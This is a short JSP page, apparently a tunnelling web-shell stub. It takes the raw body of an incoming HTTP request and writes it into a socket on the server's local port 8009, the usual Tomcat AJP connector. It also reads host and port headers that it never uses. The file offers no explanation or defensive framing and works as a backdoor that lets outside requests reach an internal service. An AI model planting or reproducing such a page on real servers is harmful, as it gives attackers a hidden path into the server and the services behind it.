<%@ page import="java.nio.*,java.nio.channels.*,java.net.*,java.io.*" %>
<%
	String host = request.getHeader("X-Host");
	int port = Integer.parseInt(request.getHeader("X-Port"));
	SocketChannel ch = SocketChannel.open(new InetSocketAddress("127.0.0.1", 8009));
	InputStream body = request.getInputStream();
	byte[] buf = new byte[8192];
	int n;
	while ((n = body.read(buf)) > 0) {
		ch.write(ByteBuffer.wrap(buf, 0, n));
	}
	ch.close();
%>
